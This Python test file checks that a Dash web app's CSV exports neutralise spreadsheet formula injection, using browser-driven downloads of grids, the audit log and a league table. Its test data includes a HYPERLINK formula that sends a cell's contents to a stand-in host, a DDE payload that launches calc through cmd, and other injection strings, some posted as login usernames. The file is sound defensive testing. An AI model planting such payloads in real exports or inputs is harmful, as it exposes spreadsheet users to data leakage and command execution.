"""CSV formula injection: every grid's 'Export CSV' writes cells a spreadsheet would run as a
formula (= + - @, also after blanks or quotes, a leading tab or carriage return) as text, with a
leading single quote (OWASP); numbers, and text that is only a signed number, stay as they are.

The grids export in the browser (AG Grid), so the tests click the export in headless Chromium
and read the downloaded file.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import dash
import dash_mantine_components as dmc
import pytest
from dash import MATCH, Input, Output
from dash import _callback as dash_callbacks
from sqlalchemy.orm import Session

from app import ROOT, create_app
from components.tables import grid
from data.units import children, unit_by_code
from jobs.ingest.load import import_file
from tests.browser import browser_page, chromium_path, live_server, sign_in
from tests.conftest import csrf_from, seeded_store

HYPERLINK = '=HYPERLINK("http://x/?"&B2,"Click")'
# (cell text, what the CSV must hold), written out by hand from OWASP's rule.
TEXT_CELLS = [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+2", "'+1+2"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1,1)", "'@SUM(1,1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("  =1+1", "'  =1+1"),
    ('"=1+1', "'\"=1+1"),
    ("'=1+1", "''=1+1"),
    ("-0.3 pp", "'-0.3 pp"),
    ("-3.5", "-3.5"),
    ("+12%", "+12%"),
    ("杭州=1", "杭州=1"),
    ("a-b@c", "a-b@c"),
    ("Click", "Click"),
]
NUMBERS = [-3.5, 0, 1234.25, -12]


def _download(page, click) -> list[list[str]]:
    """Run `click`, wait for the CSV download and return its rows."""
    with page.expect_download(timeout=30_000) as download:
        click()
    text = Path(download.value.path()).read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.fixture(scope="module")
def grid_app():
    """A Dash app with only the shared grid component (and the project's assets)."""
    chromium_path()
    # Dash hands the callbacks registered with `dash.callback` (the project's pages register theirs
    # each time an app is made) to the next app that serves its first request. An app made by an
    # earlier test and never asked for anything would leave its pages' callbacks to this one, and
    # the browser would report every one as "ID not found in layout": set them aside meanwhile.
    pending_list = list(dash_callbacks.GLOBAL_CALLBACK_LIST)
    pending_map = dict(dash_callbacks.GLOBAL_CALLBACK_MAP)
    dash_callbacks.GLOBAL_CALLBACK_LIST.clear()
    dash_callbacks.GLOBAL_CALLBACK_MAP.clear()
    try:
        app = dash.Dash(__name__, assets_folder=str(ROOT / "assets"))
        rows = [{"text": text, "number": NUMBERS[i % len(NUMBERS)]}
                for i, (text, _) in enumerate(TEXT_CELLS)]
        app.layout = dmc.MantineProvider(grid("cells", rows, [
            {"field": "text", "headerName": "Text"},
            {"field": "number", "headerName": "Number", "cellDataType": "number"}], "en"))
        app.callback(Output({"type": "csv-grid", "name": MATCH}, "exportDataAsCsv"),
                     Input({"type": "csv", "name": MATCH}, "n_clicks"),
                     prevent_initial_call=True)(lambda _n: True)
        assert app.server.test_client().get("/_dash-dependencies").status_code == 200
        assert [c["output"] for c in app._callback_list] == [
            '{"name":["MATCH"],"type":"csv-grid"}.exportDataAsCsv']
    finally:
        dash_callbacks.GLOBAL_CALLBACK_LIST[:0] = pending_list
        dash_callbacks.GLOBAL_CALLBACK_MAP.update(pending_map)
    with live_server(app.server) as base:
        yield base


@pytest.mark.browser
def test_the_shared_grid_exports_formulas_as_text_and_numbers_as_numbers(grid_app):
    with browser_page() as (page, errors):
        page.goto(grid_app)
        page.wait_for_selector(".ag-cell")
        rows = _download(page, lambda: page.get_by_role("button", name="Export CSV").click())
    assert rows[0] == ["Text", "Number"]
    assert [r[0] for r in rows[1:]] == [want for _, want in TEXT_CELLS]
    numbers = [r[1] for r in rows[1:]]
    assert numbers == [str(NUMBERS[i % len(NUMBERS)]) for i in range(len(TEXT_CELLS))]
    assert [float(n) for n in numbers] == [NUMBERS[i % len(NUMBERS)] for i in range(len(TEXT_CELLS))]
    assert errors == []


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory):
    """The tiny demo on SQLite, with hostile failed-login usernames and an imported unit name."""
    chromium_path()
    tmp = tmp_path_factory.mktemp("csv")
    store = seeded_store("sqlite", tmp)
    with Session(store.engine) as s:
        county = children(s, unit_by_code(s, "ZJ-HZ"))[0]
        row = [county.code, HYPERLINK, "@cmd", str(county.tier), "ZJ-HZ"]
    units = tmp / "units.csv"
    with units.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["code", "name_zh", "name_en", "tier", "parent"], row])
    report = import_file(store.engine, units, "units", username="test")
    assert report.ok and report.updated == 1, report.problem_lines()
    flask_app = create_app({"TESTING": True, "DATABASE_URL": store.url,
                            "SECRET_KEY": "test-only-secret"})
    c = flask_app.test_client()
    for username in (HYPERLINK, "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)"):
        token = csrf_from(c.get("/login").get_data(as_text=True))
        answer = c.post("/login", data={"username": username, "password": "wrong password",
                                        "csrf_token": token})
        assert answer.status_code == 401
    with live_server(flask_app) as base:
        yield base, county.code
    flask_app.extensions["engine"].dispose()
    store.drop()


@pytest.mark.browser
def test_the_audit_log_export_neutralises_failed_login_usernames(hostile_app):
    base, _county = hostile_app
    with browser_page() as (page, errors):
        sign_in(page, base, "admin")
        page.goto(base + "/admin")
        page.get_by_role("tab", name="审计日志").click()
        page.wait_for_selector(f"#admin-audit .ag-cell >> text={HYPERLINK}")
        rows = _download(page, lambda: page.click("#audit-export"))
    header = rows[0]
    users = [r[header.index("用户")] for r in rows[1:]
             if r[header.index("动作")] == "login_failed"]
    assert sorted(users) == sorted(["'" + HYPERLINK, "'-2+3+cmd|' /C calc'!A0", "'@SUM(1,1)"])
    assert [e for e in errors if "favicon" not in e] == []


@pytest.mark.browser
def test_the_league_table_export_neutralises_imported_unit_names(hostile_app):
    base, county = hostile_app
    with browser_page() as (page, errors):
        sign_in(page, base, "admin")
        page.goto(base + "/regions?unit=ZJ-HZ&start=2026-06-01&end=2026-06-30")
        page.wait_for_selector(f"[row-id='{county}'] .ag-cell")
        rows = _download(page, lambda: page.get_by_role("button", name="导出 CSV").click())
    names = [r[rows[0].index("单位")] for r in rows[1:]]
    assert "'" + HYPERLINK in names
    assert HYPERLINK not in names
    assert all(not n.startswith(("=", "+", "-", "@")) for n in names)
    assert [e for e in errors if "favicon" not in e] == []
